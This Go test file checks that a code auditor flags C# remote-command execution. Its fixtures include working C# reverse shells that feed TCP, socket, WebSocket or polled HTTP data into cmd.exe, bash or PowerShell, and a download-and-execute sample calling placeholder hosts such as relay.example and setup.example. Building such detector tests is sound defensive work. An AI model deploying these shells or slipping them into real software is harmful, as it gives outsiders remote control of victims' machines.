package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestCSharpRemoteCommands: C# that runs what a network peer sends
// (a TcpClient's lines, a Socket's or WebSocket's bytes, an HttpClient
// answer polled in a loop) in a process is a remote shell, critical,
// however the data travels (locals, a loop condition, a buffer a read
// fills, a helper method's parameter, a shell's standard input); an HTTP
// answer run once in a shell is critical download-exec. A fixed program
// given an argument a server chose is medium; a connection that only
// ships logs, a process whose output alone goes to the connection, a
// language server (not a shell) fed a socket's lines on its input, and a
// shell fed the user's own console input are not findings.
func TestCSharpRemoteCommands(t *testing.T) {
	const head = "using System;\nusing System.Diagnostics;\nusing System.IO;\nusing System.Net.Http;\nusing System.Net.Sockets;\nusing System.Net.WebSockets;\nusing System.Text;\nusing System.Threading;\nusing System.Threading.Tasks;\n\n"
	for _, c := range []struct {
		name, file, src string
		rule            string
		line            int
		sev             audit.Severity
	}{
		{"tcp-readline-shell", "src/Agent.cs", head + `public static class Agent
{
    public static void Run(string host)
    {
        using var client = new TcpClient(host, 9000);
        var reader = new StreamReader(client.GetStream());
        string line;
        while ((line = reader.ReadLine()) != null)
        {
            var text = line.Trim();
            var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + text) { RedirectStandardOutput = true });
        }
    }
}
`, "reverse-shell", 21, audit.Critical},
		{"socket-receive-helper", "src/Svc.cs", head + `class Svc
{
    static string Exec(string cmd)
    {
        var psi = new ProcessStartInfo { FileName = "/bin/bash", Arguments = $"-c \"{cmd}\"", RedirectStandardOutput = true };
        using var p = Process.Start(psi);
        return p.StandardOutput.ReadToEnd();
    }

    static void Main()
    {
        var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        s.Connect("collector.example", 7000);
        var buf = new byte[4096];
        for (;;)
        {
            int n = s.Receive(buf);
            var msg = Encoding.UTF8.GetString(buf, 0, n);
            s.Send(Encoding.UTF8.GetBytes(Exec(msg)));
        }
    }
}
`, "reverse-shell", 15, audit.Critical},
		{"shell-stdin", "tools/Relay.csx", head + `var tcp = new TcpClient("relay.example", 443);
var ns = tcp.GetStream();
var rd = new StreamReader(ns);
var sh = new Process();
sh.StartInfo.FileName = "powershell.exe";
sh.StartInfo.RedirectStandardInput = true;
sh.Start();
while (true)
{
    sh.StandardInput.WriteLine(rd.ReadLine());
}
`, "reverse-shell", 20, audit.Critical},
		{"http-poll-loop", "src/Beacon.cs", head + `class Beacon
{
    static readonly HttpClient Http = new HttpClient();
    static async Task Main()
    {
        while (true)
        {
            string job = await Http.GetStringAsync("https://jobs.example/next");
            if (job.Length > 0)
            {
                var psi = new ProcessStartInfo();
                psi.FileName = "sh";
                psi.Arguments = "-c '" + job + "'";
                Process.Start(psi);
            }
            await Task.Delay(60000);
        }
    }
}
`, "reverse-shell", 23, audit.Critical},
		{"program-from-peer", "src/Peer.cs", head + `class Peer
{
    static void Main()
    {
        var client = new TcpClient("peer.example", 5000);
        var r = new BinaryReader(client.GetStream());
        var name = r.ReadString();
        Process.Start(name);
    }
}
`, "reverse-shell", 18, audit.Critical},
		{"websocket-argumentlist", "src/Ws.cs", head + `class Ws
{
    static async Task Main()
    {
        using var ws = new ClientWebSocket();
        await ws.ConnectAsync(new Uri("wss://ws.example/ctl"), CancellationToken.None);
        var buffer = new byte[8192];
        while (ws.State == WebSocketState.Open)
        {
            var res = await ws.ReceiveAsync(new ArraySegment<byte>(buffer), CancellationToken.None);
            var cmd = Encoding.UTF8.GetString(buffer, 0, res.Count);
            var psi = new ProcessStartInfo("pwsh");
            psi.ArgumentList.Add("-Command");
            psi.ArgumentList.Add(cmd);
            Process.Start(psi);
        }
    }
}
`, "reverse-shell", 24, audit.Critical},
		{"http-answer-once", "src/Setup.cs", head + `class Setup
{
    static async Task Main()
    {
        using var http = new HttpClient();
        var script = await http.GetStringAsync("https://setup.example/steps.txt");
        Process.Start("cmd.exe", "/c " + script).WaitForExit();
    }
}
`, "download-exec", 17, audit.Critical},
		{"version-argument", "src/Update.cs", head + `class Update
{
    static async Task Main()
    {
        var http = new HttpClient();
        var latest = (await http.GetStringAsync("https://tools.example/latest.txt")).Trim();
        var p = Process.Start("dotnet", $"tool update --global example-tool --version {latest}");
        p.WaitForExit();
    }
}
`, "download-exec", 17, audit.Medium},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{c.file: c.src})
			wantFindingAt(t, rep, "s", c.rule, c.file, c.line, c.sev)
			if t.Failed() {
				t.Logf("findings %+v", rep.Findings)
			}
			if got, _ := worstOf(rep, c.rule); got != c.sev {
				t.Errorf("worst %s %v, want %v; findings %+v", c.rule, got, c.sev, rep.Findings)
			}
		})
	}

	for _, c := range []struct{ name, src string }{
		{"log-shipper", head + `public static class Shipper
{
    static string level = "info";
    public static async Task Loop()
    {
        while (true)
        {
            using var client = new TcpClient();
            await client.ConnectAsync("logs.example", 5514);
            using var stream = client.GetStream();
            using var reader = new StreamReader(stream);
            using var writer = new StreamWriter(stream) { AutoFlush = true };
            var info = Process.Start(new ProcessStartInfo("dotnet", "--info") { RedirectStandardOutput = true });
            await writer.WriteLineAsync(await info.StandardOutput.ReadToEndAsync());
            string line;
            while ((line = await reader.ReadLineAsync()) != null)
            {
                if (line.StartsWith("level ")) level = line[6..];
            }
            Thread.Sleep(30000);
        }
    }
}
`},
		{"console-repl", head + `class Repl
{
    static async Task Main()
    {
        var http = new HttpClient();
        Console.WriteLine(await http.GetStringAsync("https://tools.example/motd.txt"));
        string line;
        while ((line = Console.ReadLine()) != null)
        {
            Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line)).WaitForExit();
        }
    }
}
`},
		{"language-server-stdin", head + `class Bridge
{
    static void Main()
    {
        var listener = new TcpListener(System.Net.IPAddress.Loopback, 7658);
        listener.Start();
        var client = listener.AcceptTcpClient();
        var reader = new StreamReader(client.GetStream());
        var server = Process.Start(new ProcessStartInfo("dotnet", "lsp/Server.dll") { RedirectStandardInput = true });
        string msg;
        while ((msg = reader.ReadLine()) != null)
        {
            server.StandardInput.WriteLine(msg);
        }
    }
}
`},
		{"git-status-to-socket", head + `class Status
{
    static void Main()
    {
        var client = new TcpClient("dash.example", 8125);
        var w = new StreamWriter(client.GetStream());
        var p = Process.Start(new ProcessStartInfo("git", "status --short") { RedirectStandardOutput = true });
        w.WriteLine(p.StandardOutput.ReadToEnd());
        w.Flush();
    }
}
`},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"src/Tool.cs": c.src})
			for _, f := range rep.Findings {
				if f.Severity >= audit.Medium {
					t.Errorf("benign %s: %+v", c.name, f)
				}
			}
		})
	}
}
